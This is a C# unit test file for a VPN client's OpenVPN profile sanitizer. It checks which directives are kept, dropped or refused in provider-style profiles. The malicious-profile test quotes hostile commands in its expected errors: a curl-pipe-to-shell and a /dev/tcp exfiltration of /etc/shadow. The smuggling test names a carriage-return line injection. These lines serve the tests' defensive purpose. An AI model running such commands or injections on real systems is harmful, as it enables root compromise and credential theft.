using Causeway.Core.Model;
using Causeway.Core.Profiles;
using Xunit;

namespace Causeway.Core.Tests.Profiles;

/// <summary>Provider-style profiles (Fixtures/profiles): what is kept, dropped and refused, line by line.</summary>
public sealed class ProfileSanitizerFixtureTests
{
    private const DiagnosticSeverity Error = DiagnosticSeverity.Error;
    private const DiagnosticSeverity Warning = DiagnosticSeverity.Warning;

    private static (DiagnosticSeverity, int, string)[] Findings(ProfileSanitizeResult result) =>
        [.. result.Diagnostics.Select(d => (d.Severity, d.Line, d.Directive))];

    private static string[] Kept(SanitizedProfile profile) => [.. profile.Directives.Select(d => $"{d.Line}: {d.Display}")];

    [Fact]
    public void Nordvpn_style_profile_keeps_the_connection_and_drops_device_keepalive_and_credentials_file()
    {
        var result = ProfileFixtures.Sanitize("nordlike-udp.ovpn");

        Assert.Equal(
            [(Warning, 2, "dev"), (Warning, 13, "ping"), (Warning, 14, "ping-restart"), (Warning, 15, "ping-timer-rem"), (Warning, 22, "auth-user-pass")],
            Findings(result));
        var profile = Assert.IsType<SanitizedProfile>(result.Profile);
        Assert.Equal(
            [
                "1: client", "4: remote 203.0.113.10 1194 udp", "5: resolv-retry infinite", "6: remote-random", "7: nobind",
                "8: tun-mtu 1500", "9: tun-mtu-extra 32", "10: mssfix 1450", "11: persist-key", "12: persist-tun", "16: reneg-sec 0",
                "17: comp-lzo no", "18: verify-x509-name CN=nl123.example-vpn.net", "20: remote-cert-tls server", "23: verb 3",
                "24: pull", "25: fast-io", "26: cipher AES-256-CBC", "27: auth SHA512", "51: key-direction 1",
            ],
            Kept(profile));
        Assert.Equal([("ca", 28, null), ("tls-auth", 52, null)], profile.InlineBlocks.Select(b => (b.Name, b.Line, b.SourceFile)));
        Assert.All(profile.InlineBlocks, b => Assert.DoesNotContain('\r', b.Content));
        Assert.StartsWith("-----BEGIN CERTIFICATE-----\n", profile.InlineBlocks[0].Content, StringComparison.Ordinal);
        Assert.EndsWith("-----END OpenVPN Static key V1-----\n", profile.InlineBlocks[1].Content, StringComparison.Ordinal);
        Assert.True(profile.RequiresCredentials);
        Assert.Equal(22, profile.CredentialsLine);
        Assert.Equal([new ProfileRemote("203.0.113.10", 1194, TransportProtocol.Udp, "udp", 4)], profile.Remotes);
        Assert.Equal([TransportProtocol.Udp], profile.Protocols);
    }

    [Fact]
    public void Protonvpn_style_profile_with_bom_drops_the_update_resolv_conf_scripts()
    {
        var result = ProfileFixtures.Sanitize("protonlike.ovpn");

        Assert.Equal(
            [(Warning, 12, "dev"), (Warning, 27, "setenv"), (Warning, 37, "auth-user-pass"), (Warning, 41, "script-security"), (Warning, 42, "up"), (Warning, 43, "down")],
            Findings(result));
        Assert.Equal(
            "would run /etc/openvpn/update-resolv-conf as root when the tunnel opens; Causeway never runs a profile's scripts (it applies the pushed DNS itself); line dropped",
            result.Diagnostics[4].Message);
        var profile = Assert.IsType<SanitizedProfile>(result.Profile);
        Assert.Equal([80, 51820, 4569, 1194, 5060], profile.Remotes.Select(r => r.Port));
        Assert.All(profile.Remotes, r => Assert.Equal(("198.51.100.21", TransportProtocol.Udp), (r.Host, r.Protocol)));
        Assert.Equal(["ca", "tls-crypt"], profile.InlineBlocks.Select(b => b.Name));
        Assert.Equal(11, profile.Directives[0].Line);
        Assert.Equal("client", profile.Directives[0].Name);
    }

    [Fact]
    public void Pia_style_tcp_profile_keeps_its_crl_and_says_tcp()
    {
        var result = ProfileFixtures.Sanitize("pialike-tcp.ovpn");

        Assert.Equal([(Warning, 2, "dev"), (Warning, 14, "auth-user-pass")], Findings(result));
        var profile = Assert.IsType<SanitizedProfile>(result.Profile);
        Assert.Equal([new ProfileRemote("nl-amsterdam.example-pia.net", 502, TransportProtocol.Tcp, "tcp", 4)], profile.Remotes);
        Assert.Equal([TransportProtocol.Tcp], profile.Protocols);
        Assert.False(profile.UsesUdp);
        Assert.Equal(["crl-verify", "ca"], profile.InlineBlocks.Select(b => b.Name));
        Assert.StartsWith("-----BEGIN X509 CRL-----", profile.InlineBlocks[0].Content, StringComparison.Ordinal);
        Assert.Contains("56: disable-occ", Kept(profile));
        Assert.Contains("9: cipher aes-128-cbc", Kept(profile));
    }

    [Fact]
    public void Mullvad_style_profile_gets_its_files_inlined_from_the_profile_directory()
    {
        var result = ProfileFixtures.Sanitize("mullvadlike/mullvad_se_all.conf");

        Assert.Equal(
            [
                (Warning, 2, "dev"), (Warning, 9, "ping"), (Warning, 10, "ping-restart"), (Warning, 16, "auth-user-pass"),
                (Warning, 19, "tun-ipv6"), (Warning, 20, "script-security"), (Warning, 21, "up"), (Warning, 22, "down"),
                (Warning, 28, "redirect-gateway"), (Warning, 29, "dhcp-option"), (Warning, 30, "block-outside-dns"),
                (Warning, 31, "ignore-unknown-option"), (Warning, 32, "block-outside-dns"), (Warning, 33, "user"), (Warning, 34, "group"),
            ],
            Findings(result));
        var profile = Assert.IsType<SanitizedProfile>(result.Profile);
        var directory = ProfileFixtures.PathOf("mullvadlike");
        Assert.Equal(
            [("ca", 17, Path.Combine(directory, "mullvad_ca.crt")), ("tls-auth", 18, Path.Combine(directory, "keys/mullvad_ta.key"))],
            profile.InlineBlocks.Select(b => (b.Name, b.Line, b.SourceFile)));
        Assert.Equal(File.ReadAllText(Path.Combine(directory, "mullvad_ca.crt")), profile.InlineBlocks[0].Content);

        // The key file has CRLF line endings; the inlined copy does not.
        Assert.Equal(
            File.ReadAllText(Path.Combine(directory, "keys/mullvad_ta.key")).Replace("\r\n", "\n", StringComparison.Ordinal),
            profile.InlineBlocks[1].Content);

        // "tls-auth file 1" became an inline block, which takes its direction from key-direction.
        Assert.Contains("18: key-direction 1", Kept(profile));
        Assert.DoesNotContain(profile.Directives, d => d.Name is "proto" or "tls-auth" or "ca");
        Assert.Equal(
            [
                new ProfileRemote("se-got-ovpn-001.example-mullvad.net", 1196, TransportProtocol.Udp, "udp", 25),
                new ProfileRemote("se-got-ovpn-002.example-mullvad.net", 1196, TransportProtocol.Udp, "udp", 26),
                new ProfileRemote("se-sto-ovpn-003.example-mullvad.net", 443, TransportProtocol.Tcp, "tcp", 27),
            ],
            profile.Remotes);
        Assert.Equal([TransportProtocol.Udp, TransportProtocol.Tcp], profile.Protocols);
        Assert.Equal(16, profile.CredentialsLine);
    }

    [Fact]
    public void Certificate_profile_resolves_a_dot_dot_path_and_needs_no_credentials()
    {
        var result = ProfileFixtures.Sanitize("certlike/office.ovpn");

        Assert.Equal([(Warning, 3, "dev"), (Warning, 14, "route"), (Warning, 15, "redirect-private")], Findings(result));
        var profile = Assert.IsType<SanitizedProfile>(result.Profile);
        Assert.False(profile.RequiresCredentials);
        Assert.True(profile.HasClientCertificate);
        Assert.Equal(["ca", "cert", "key", "tls-crypt"], profile.InlineBlocks.Select(b => b.Name));
        Assert.Equal(Path.Combine(ProfileFixtures.PathOf("certlike"), "../certlike-keys/tc.key"), profile.InlineBlocks[3].SourceFile);
        Assert.Equal(["udp4", "tcp4"], profile.Remotes.Select(r => r.ProtocolName));
    }

    [Fact]
    public void Torguard_style_profile_uses_its_inline_ca_and_key_and_never_asks_for_the_files_it_names_first()
    {
        // "ca ca.crt" and "tls-auth ta.key 1", then both inline: OpenVPN uses the blocks and opens no file (and
        // neither file is in the fixture directory).
        var result = ProfileFixtures.Sanitize("torguardlike.ovpn");

        var profile = Assert.IsType<SanitizedProfile>(result.Profile);
        Assert.Equal(
            [(2, "dev"), (8, "setenv"), (9, "ca"), (10, "tls-auth"), (17, "auth-user-pass"), (19, "script-security")],
            result.Diagnostics.Select(d => (d.Line, d.Directive)));
        Assert.All(result.Diagnostics, d => Assert.True(d.IsRoutine, d.ToString()));
        Assert.Equal([("ca", 21, null), ("tls-auth", 34, null)], profile.InlineBlocks.Select(b => (b.Name, b.Line, b.SourceFile)));
        Assert.Contains("7: key-direction 1", Kept(profile));
    }

    [Fact]
    public void Older_exporter_profile_with_inline_markers_passtos_and_hex_key_usage_is_accepted()
    {
        var result = ProfileFixtures.Sanitize("ipredatorlike.ovpn");

        var profile = Assert.IsType<SanitizedProfile>(result.Profile);
        var notable = Assert.Single(result.Diagnostics, d => !d.IsRoutine);
        Assert.Equal((Warning, 25, "passtos"), (notable.Severity, notable.Line, notable.Directive));
        Assert.Equal([(3, "dev"), (10, "auth-user-pass"), (19, "keepalive")], result.Diagnostics.Where(d => d.IsRoutine).Select(d => (d.Line, d.Directive)));
        Assert.Equal([("ca", 28), ("tls-auth", 42)], profile.InlineBlocks.Select(b => (b.Name, b.Line)));
        Assert.Contains("17: remote-cert-ku 0x00e0", Kept(profile));
        Assert.Contains("65: key-direction 1", Kept(profile));
    }

    [Fact]
    public void Windows_gui_style_profile_drops_service_mtu_test_and_tls_exit()
    {
        var result = ProfileFixtures.Sanitize("vpnarealike.ovpn");

        var profile = Assert.IsType<SanitizedProfile>(result.Profile);
        Assert.Equal([(13, "mtu-test"), (14, "tls-exit")], result.Diagnostics.Where(d => !d.IsRoutine).Select(d => (d.Line, d.Directive)));
        Assert.Equal(
            [(2, "dev"), (17, "route-method"), (18, "route-delay"), (19, "service"), (20, "block-outside-dns"), (21, "block-outside-dns"), (22, "auth-user-pass")],
            result.Diagnostics.Where(d => d.IsRoutine).Select(d => (d.Line, d.Directive)));
        Assert.Contains("11: remote-cert-ku e0 A0 0X88", Kept(profile));
    }

    [Fact]
    public void Profile_from_before_openvpn_2_4_is_refused_for_tls_remote_with_its_replacement()
    {
        var result = ProfileFixtures.Sanitize("legacy23.ovpn");

        Assert.Null(result.Profile);
        var error = Assert.Single(result.Diagnostics, d => d.Severity == Error);
        Assert.Equal((8, "tls-remote"), (error.Line, error.Directive));
        Assert.Equal("replace it with 'verify-x509-name vpn-server.example-legacy.net name', which checks the server certificate's common name", error.Fix);
    }

    [Fact]
    public void Vpnbook_style_profile_with_a_sha1_signed_client_certificate_is_refused_with_the_fix()
    {
        var result = ProfileFixtures.Sanitize("vpnbooklike.ovpn");

        Assert.Null(result.Profile);
        var error = Assert.Single(result.Diagnostics, d => d.Severity == Error);
        Assert.Equal((40, "cert"), (error.Line, error.Directive));
        Assert.StartsWith("the <cert> block: certificate 'CN=client, O=Example Weak VPN, C=XX' is signed with SHA-1", error.Message, StringComparison.Ordinal);
        Assert.Contains("'tls-cert-profile insecure'", error.Fix, StringComparison.Ordinal);
    }

    [Fact]
    public void Prostovpn_style_profile_keeps_the_tls_cipher_it_wraps_in_setenv_opt_and_so_its_weak_certificate_loads()
    {
        var result = ProfileFixtures.Sanitize("prostolike.ovpn");

        var profile = Assert.IsType<SanitizedProfile>(result.Profile);
        Assert.All(result.Diagnostics, d => Assert.True(d.IsRoutine, d.ToString()));
        Assert.Contains("17: tls-cipher DEFAULT:@SECLEVEL=0", Kept(profile));
        Assert.Equal(["ca", "cert", "key"], profile.InlineBlocks.Select(b => b.Name));
    }

    [Fact]
    public void Malicious_profile_is_refused_with_every_finding_in_file_order()
    {
        var result = ProfileFixtures.Sanitize("malicious.ovpn");

        Assert.Null(result.Profile);
        Assert.True(result.HasErrors);
        Assert.Equal(
            [
                (Warning, 2, "dev"),
                (Error, 4, "plugin"),
                (Warning, 5, "script-security"),
                (Warning, 6, "up"),
                (Error, 7, "config"),
                (Error, 8, "tls-verify"),
                (Error, 9, "up\"x\""),
                (Warning, 10, "route-up"),
                (Warning, 11, "ipchange"),
                (Error, 12, "iproute"),
                (Error, 13, "log-append"),
                (Error, 14, "writepid"),
                (Error, 15, "management"),
                (Error, 16, "frobnicate"),
                (Error, 17, "cd"),
                (Warning, 18, "auth-user-pass"),
            ],
            Findings(result));

        var file = ProfileFixtures.PathOf("malicious.ovpn");
        var byLine = result.Diagnostics.ToDictionary(d => d.Line, d => d.ToString());
        Assert.Equal($"{file}:4: error: plugin: loads a shared library into OpenVPN, which runs its code as root (remove this line)", byLine[4]);
        Assert.Equal(
            $"{file}:6: warning: up: would run \"/bin/sh -c 'curl -s http://203.0.113.66/x | sh'\" as root when the tunnel opens; Causeway never runs a profile's scripts (it applies the pushed DNS itself); line dropped (nothing to do: remove the line to silence this warning)",
            byLine[6]);
        Assert.Equal(
            $"{file}:8: error: tls-verify: runs \"/bin/sh -c 'cat /etc/shadow > /dev/tcp/203.0.113.66/80'\" as root for every certificate check (remove this line)",
            byLine[8]);
        Assert.Equal(
            $"{file}:16: error: frobnicate: 'frobnicate' is not an option Causeway accepts from a provider profile: only options that describe the connection are kept (an allowlist) (remove this line)",
            byLine[16]);
        Assert.Contains("writes a file (/etc/passwd)", byLine[14], StringComparison.Ordinal);
    }

    [Fact]
    public void Smuggling_attempts_are_refused()
    {
        var result = ProfileFixtures.Sanitize("smuggling.ovpn");

        Assert.Null(result.Profile);
        Assert.Equal(
            [(Error, 3, "ca"), (Error, 4, ""), (Error, 5, "remote"), (Error, 6, "secret"), (Error, 9, "up")],
            Findings(result));

        // A referenced file that closes the block and adds options of its own.
        Assert.Contains("contains a line starting with </ca>", result.Diagnostics[0].Message, StringComparison.Ordinal);

        // "remote … 1195\rup /tmp/evil" is one line to OpenVPN: a remote with four parameters.
        Assert.Contains("not 4", result.Diagnostics[2].Message, StringComparison.Ordinal);
        Assert.Contains("cannot be an inline block", result.Diagnostics[4].Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Unterminated_block_is_an_error_with_its_line()
    {
        var result = ProfileFixtures.Sanitize("unterminated.ovpn");

        Assert.Null(result.Profile);
        Assert.Equal([(Error, 3, "ca")], Findings(result));
    }

    [Fact]
    public void Tap_profile_is_refused_because_causeway_only_makes_tun_devices()
    {
        var result = ProfileFixtures.Sanitize("tap.ovpn");

        Assert.Null(result.Profile);
        Assert.Equal([(Error, 2, "dev"), (Warning, 27, "auth-user-pass")], Findings(result));
        Assert.Contains("layer-2 (tap)", result.Diagnostics[0].Message, StringComparison.Ordinal);
    }
}
